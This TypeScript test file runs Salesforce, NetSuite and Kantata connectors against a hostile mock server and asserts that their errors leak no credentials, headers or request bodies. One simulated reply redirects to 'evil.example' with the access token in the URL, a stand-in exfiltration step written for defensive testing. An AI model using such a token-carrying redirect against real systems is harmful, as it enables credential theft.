import 'should';
import { generateKeyPairSync } from 'node:crypto';
import { createKantata } from '../../connectors/kantata/connector.ts';
import { createNetSuite } from '../../connectors/netsuite/connector.ts';
import { createSalesforce, type SalesforceConfig } from '../../connectors/salesforce/connector.ts';
import { Failure } from '../../model/failure.ts';
import type { ConnectionTest } from '../../model/operations.ts';
import { HostileServer, json, pour, type Reply } from './hostile-server.ts';
import { InMemoryEffects } from './in-memory-effects.ts';

const pem = generateKeyPairSync('rsa', {
  modulusLength: 3072,
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
  publicKeyEncoding: { type: 'spki', format: 'pem' },
}).privateKey;

const secrets = {
  clientSecret: 'Cl1ent/Secret+of=the&"test"',
  password: 'correct horse 7 battery staple',
  refreshToken: '5Aep861TSESvWeug_refresh.of/the+test==',
  accessToken: '00D000000000001!AQ4AQPtoken.of.the.test',
  consumerSecret: 'consumer-secret-of-the-test-4711',
  tokenSecret: 'token-secret-of-the-test-4711',
  kantata: 'kantata-bearer-token-of-the-test-1234567890abcdef',
};
const keyLines = pem.split('\n').filter((line) => line.length > 40);

/** Everything that can be reached from a value: own, symbol and hidden properties, getters, prototypes of its own, the chain of causes. */
function reachable(value: unknown): string {
  const texts: string[] = [];
  const seen = new Set<unknown>();
  const left: unknown[] = [value];
  while (left.length > 0) {
    const next = left.pop();
    if (typeof next === 'string') texts.push(next);
    if (Buffer.isBuffer(next)) texts.push(next.toString('utf8'));
    if ((typeof next !== 'object' && typeof next !== 'function') || next === null || seen.has(next)) continue;
    seen.add(next);
    if (next === Object.prototype || next === Function.prototype || next === globalThis) continue;
    for (const name of Reflect.ownKeys(next)) {
      if (typeof name === 'string') texts.push(name);
      try {
        left.push((next as Record<PropertyKey, unknown>)[name]);
      } catch {
        // a getter that cannot be read tells nothing
      }
    }
    left.push(Object.getPrototypeOf(next) as unknown);
    if (next instanceof Map) left.push([...next]);
    if (next instanceof Set) left.push([...next]);
  }
  return texts.join('\n');
}

/** In whatever form somebody who looks for it would know it again. */
function found(value: unknown): string[] {
  const text = reachable(value) + JSON.stringify(value) + String(value);
  const forms = (secret: string) => [
    secret,
    encodeURIComponent(secret),
    new URLSearchParams([['', secret]]).toString().slice(1),
    JSON.stringify(secret).slice(1, -1),
    secret.replaceAll('&', '&amp;').replaceAll('"', '&quot;'),
    Buffer.from(secret).toString('hex'),
    Buffer.from(`id:${secret}`).toString('base64').slice(6, -4),
    secret.slice(0, 14),
  ];
  return [...Object.values(secrets), ...keyLines].flatMap((secret) => forms(secret).filter((form) => text.includes(form)));
}

/** What a system may say that was told everything: the request's headers and body, plain and encoded in each way. */
function echo(request: { headers: object; text: string }): string {
  const told = [JSON.stringify(request.headers), request.text, ...Object.values(secrets), pem, pem.replaceAll('\n', '')];
  return [
    ...told,
    ...told.map(encodeURIComponent),
    ...told.map((text) => Buffer.from(text).toString('base64')),
    ...Object.values(secrets).map((secret) => Buffer.from(`id:${secret}`).toString('base64')),
    ...told.map((text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')),
    ...Object.values(secrets).map((secret) => Buffer.from(secret).toString('hex')),
  ].join(' ');
}

/** Ways in which a call goes wrong, at the sign-in or after it. */
const ways: Record<string, Reply> = {
  'the connection ends': (request) => void request.socket.destroy(),
  'the answer ends in the middle': (request, response) => {
    response.writeHead(200, { 'Content-Length': '1000' }).write('{');
    setTimeout(() => request.socket.destroy(), 20);
  },
  'nothing is answered in time': () => undefined,
  'the answer is too large': (_request, response) => pour(response.writeHead(200), Buffer.alloc(1_000_000, '['), 2e8),
  'the answer is an echo and no JSON': (request, response) => json(response, `<html>${echo(request)}`),
  'it is refused in words that repeat the request, in JSON': (request, response) => {
    const said = echo(request);
    const error = { errorCode: said.slice(0, 200), message: said, error: 'invalid_grant', error_description: said, fields: [said] };
    json(
      response,
      {
        ...error,
        'o:errorDetails': [{ 'o:errorCode': 'USER_ERROR', detail: said, 'o:errorPath': said }],
        errors: [{ message: said, field: said }],
      },
      400,
    );
  },
  'it is refused in a list that repeats the request': (request, response) =>
    json(response, [{ errorCode: 'FIELD_INTEGRITY_EXCEPTION', message: echo(request), fields: [echo(request)] }], 400),
  'it is refused in HTML': (request, response) =>
    json(response, `<html><body>${echo(request)}</body></html>`, 403, { 'Content-Type': 'text/html' }),
  'it is refused with a redirect that carries the token': (request, response) =>
    response
      .writeHead(302, { Location: `https://evil.example/?access_token=${encodeURIComponent(request.headers.authorization ?? '')}` })
      .end(),
  'the server failed': (request, response) => json(response, echo(request), 500, { 'X-Request-Id': secrets.kantata }),
};

describe('A failure that leaves a connector', function () {
  this.timeout(60_000);
  let server: HostileServer;
  let behave: Reply;
  let signsIn = true;

  before(async () => {
    server = await new HostileServer((request, response) => {
      const isSignIn = /\/(?:services\/oauth2\/token|auth\/oauth2\/v1\/token)$/.test(request.url ?? '');
      if (!isSignIn || !signsIn) behave(request, response);
      else
        json(response, {
          access_token: secrets.accessToken,
          instance_url: server.url,
          id: 'https://x/id/00D000000000001AAA/005000000000001AAA',
          expires_in: '3600',
        });
    }).start();
  });
  after(() => server.stop());

  const signal = new AbortController().signal;
  const context = () => ({ effects: new InMemoryEffects(), signal });
  const salesforce = (config: Partial<SalesforceConfig>) =>
    createSalesforce({
      loginUrl: server.url,
      flow: 'client-credentials',
      clientId: 'id',
      timeoutMs: 300,
      ...secrets,
      privateKey: pem,
      username: 'ada',
      ...config,
    });
  const netsuite = (auth: object) => createNetSuite({ accountId: '1', baseUrl: server.url, timeoutMs: 300, auth: auth as never });
  const account = { code: 'ACC-0001', name: 'Acme', country: 'DE', currency: 'EUR' };

  type Call = () => Promise<unknown>;
  const calls: Record<string, () => Call[]> = {
    ...Object.fromEntries(
      (['client-credentials', 'username-password', 'refresh-token', 'jwt-bearer'] as const).map((flow) => [
        `Salesforce, ${flow}`,
        () => {
          const crm = salesforce({ flow });
          const rows = async () => {
            for await (const row of crm.query('SELECT Id FROM Account', signal)) void row;
          };
          return [
            rows,
            () => crm.describe('Account'),
            () => crm.operations['opportunity.poll'](undefined, { rule: 'won' }, signal),
            () => crm.test(signal),
            async () => crm.health(),
          ];
        },
      ]),
    ),
    'NetSuite, OAuth 2.0': () => {
      const erp = netsuite({ kind: 'oauth2', clientId: 'id', certificateId: 'c', privateKey: pem });
      return [
        () => erp.test(signal),
        () => erp.operations['customer.ensure']({ account, entities: [] }, context()),
        async () => erp.health(),
      ];
    },
    'NetSuite, token-based': () => {
      const erp = netsuite({ kind: 'tba', consumerKey: 'ck', tokenId: 'ti', ...secrets });
      const rows = async () => {
        for await (const row of erp.operations['posted-time.list']({ from: '2026-11-01', to: '2026-11-30' }, signal)) void row;
      };
      return [rows, () => erp.test(signal), async () => erp.health()];
    },
    Kantata: () => {
      const psa = createKantata({ baseUrl: server.url, accessToken: secrets.kantata, timeoutMs: 300 });
      const project = {
        code: 'ENG-0001',
        name: 'x',
        account: { code: 'A', name: 'A' },
        phases: [],
        billing: { type: 'time-and-materials' },
        start: '2026-01-01',
        currency: 'EUR',
      };
      return [
        () => psa.operations['approved-time.poll'](undefined, {}, signal),
        () => psa.operations['psa-project.create']([project] as never, context()),
        () => psa.test(signal),
        async () => psa.health(),
      ];
    },
  };

  // all are known before the first of them fails: what is repeated may be another connection's
  before(() => Object.values(calls).forEach((make) => make()));

  for (const [who, make] of Object.entries(calls)) {
    for (const [way, reply] of Object.entries(ways)) {
      it(`of ${who} holds no secret, request, header or body when ${way}`, async () => {
        behave = reply;
        let failures = 0;
        for (const at of [true, false]) {
          signsIn = at;
          for (const call of make()) {
            const outcome: unknown = await call().catch((error: unknown) => error);
            found(outcome).should.deepEqual([]);
            if ((outcome as ConnectionTest | undefined)?.ok === false) failures++;
            if (!(outcome instanceof Error)) continue;
            failures++;
            Failure.is(outcome).should.be.true(String(outcome));
            for (let cause: unknown = outcome.cause; cause instanceof Error; cause = cause.cause) {
              Object.keys(cause).should.deepEqual('code' in cause && cause.code !== undefined ? ['code'] : []);
            }
            found((outcome as Failure).with({ remedy: 'x' })).should.deepEqual([]);
          }
        }
        failures.should.be.above(1);
      });
    }
  }

  it('of a server that is not there, or not trusted, names the host alone', async () => {
    const crm = salesforce({ loginUrl: 'http://127.0.0.1:1' });
    const failure = (await crm.describe('Account').catch((error: unknown) => error)) as Failure;
    failure.toJSON().should.containEql({ code: 'ECONNREFUSED', message: '127.0.0.1:1 cannot be reached (ECONNREFUSED).' });
    (failure.cause as Error).should.containEql({ code: 'ECONNREFUSED' });
    found(failure).should.deepEqual([]);
  });
});

describe('An error of a library', () => {
  it('becomes a failure without its request, settings and sockets', () => {
    const error = Object.assign(
      new Error(`password authentication failed for postgres://ada:${secrets.password.replaceAll(' ', '%20')}@db/x`),
      {
        name: 'AxiosError',
        code: 'ERR_BAD',
        config: { headers: { Authorization: `Bearer ${secrets.kantata}` }, data: secrets.clientSecret },
        request: { path: secrets.accessToken },
        response: { data: secrets.refreshToken },
        cause: Object.assign(new Error('inner'), { connectionString: secrets.password }),
      },
    );
    const failure = Failure.from(error);
    found(failure).should.deepEqual([]);
    const cause = failure.cause as Error & { code?: string };
    cause.should.containEql({ code: 'ERR_BAD' });
    cause.name.should.equal('AxiosError');
    cause.message.should.equal('password authentication failed for postgres://•••@db/x');
    (cause.cause as Error).message.should.equal('inner');
    cause.stack!.should.match(/secrets-in-failures\.test/); // where it was, for who mends it
  });

  it('that cannot even be named is a failure all the same', () => {
    const nameless = Object.create(null) as object;
    for (const thrown of [
      nameless,
      undefined,
      null,
      Symbol('x'),
      {
        toString: () => {
          throw new Error('no');
        },
      },
      new Proxy(
        {},
        {
          get: () => {
            throw new Error('no');
          },
        },
      ),
    ])
      // prettier-ignore
      Failure.from(thrown).should.containEql({ class: 'internal', code: 'UNEXPECTED' });
  });
});
